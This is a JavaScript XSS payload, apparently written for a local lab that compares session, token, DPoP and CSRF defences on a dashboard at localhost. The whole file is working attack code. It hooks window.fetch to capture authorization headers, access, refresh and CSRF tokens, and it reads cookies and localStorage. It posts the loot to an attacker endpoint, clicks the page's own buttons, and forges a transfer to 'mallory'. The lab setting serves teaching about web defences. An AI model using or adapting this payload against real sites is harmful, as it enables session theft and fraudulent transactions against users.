// The XSS lab's payload. It does not run on the attacker's site: a transfer memo rendered as HTML
// (DASHBOARD_XSS=on) loads it into the VICTIM's dashboard, http://localhost:8080, where it has
// everything the page's own script has. It takes what it can and posts it to the attacker's /loot.
//
// What it shows:
// - document.cookie: the session cookies are HttpOnly, so it reads nothing;
// - a token "kept in page memory" is not out of reach: the script wraps window.fetch, which the
//   page calls for every request, and reads the Authorization header and the token answers;
// - it presses the page's own Refresh buttons (once per logged-in column, and in columns that log
//   in later), so that the page sends its refresh token and its CSRF tokens now instead of
//   whenever the victim clicks;
// - a token bound to the page's key (DPOP=on) does not work elsewhere, so it presses the page's
//   Transfer button instead: the page signs, and the script gets what it wants while the page is open;
// - with the CSRF token of a stack whose credential is a cookie (the session stacks, and the token
//   stack with TOKEN_TRANSPORT=cookie) it makes a transfer to mallory from inside the page: the
//   browser attaches the victim's cookie, and the CSRF defences cannot tell it from the page.
(() => {
  if (window.__xssLab) return; // the memo shows in two columns (the Redis stacks share transfers)
  window.__xssLab = true;

  const LOOT = 'http://127.0.0.1:8090/loot';
  const pageFetch = window.fetch;
  const sent = new Set();
  const forged = new Set();

  const send = (what, port, value) => {
    const key = `${what} ${port} ${value}`;
    if (sent.has(key)) return;
    sent.add(key);
    // no-cors, text/plain: a simple request, sent without asking; keepalive: even if the tab closes.
    pageFetch(LOOT, { method: 'POST', mode: 'no-cors', keepalive: true, body: JSON.stringify({ what, port, value }) })
      .catch(() => {});
  };

  const portOf = url => new URL(String(url), location.href).port;

  async function forgeTransfer(port, csrfToken) {
    if (forged.has(port)) return;
    forged.add(port);
    const res = await pageFetch(`http://localhost:${port}/api/transfers`, {
      method: 'POST', credentials: 'include',
      headers: { 'Content-Type': 'application/json', 'X-CSRF-Token': csrfToken },
      body: JSON.stringify({ to: 'mallory', amount: 13.37, memo: 'made by the injected script' }),
    });
    send('forged-transfer-status', port, String(res.status));
  }

  function readAnswer(port, url, res) {
    send('answer', port, `${res.status} ${new URL(String(url), location.href).pathname}`);
    res.clone().json().then(data => {
      if (data.access_token) send('access_token', port, data.access_token);
      if (data.refresh_token) send('refresh_token', port, data.refresh_token);
      if (data.csrfToken) { // only a cookie credential comes with one
        send('csrf_token', port, data.csrfToken);
        forgeTransfer(port, data.csrfToken);
      }
    }).catch(() => {});
  }

  // A DPoP-bound token is worth nothing outside this page: use it through the page, which signs.
  let usedThePage = false;
  const useThePage = () => {
    if (usedThePage) return;
    usedThePage = true;
    document.querySelector('.stack[data-stack="tokens"] .btn-transfer')?.click();
    send('pressed-transfer', '8082', 'the page signed the request with its own key');
  };

  window.fetch = async (url, init = {}) => {
    const port = portOf(url);
    const headers = init.headers || {};
    if (headers.Authorization) send('authorization_header', port, headers.Authorization);
    if (/^DPoP /.test(headers.Authorization || '')) setTimeout(useThePage);
    if (typeof init.body === 'string' && init.body.includes('refresh_token')) {
      send('refresh_token_sent', port, JSON.parse(init.body).refresh_token);
    }
    const res = await pageFetch(url, init);
    if (String(url).includes('/auth/')) readAnswer(port, url, res);
    return res;
  };

  send('document.cookie', '8080', document.cookie);
  send('localStorage', '8080', JSON.stringify({ ...localStorage }));
  // Once per logged-in column; the script stays in the page, so it also catches columns that log in later.
  const pressed = new Set();
  const pressRefreshButtons = () => {
    for (const column of document.querySelectorAll('.stack[data-state="logged-in"]')) {
      if (pressed.has(column.dataset.stack)) continue;
      pressed.add(column.dataset.stack);
      column.querySelector('.btn-refresh').click();
    }
  };
  pressRefreshButtons();
  setInterval(pressRefreshButtons, 1000);
})();
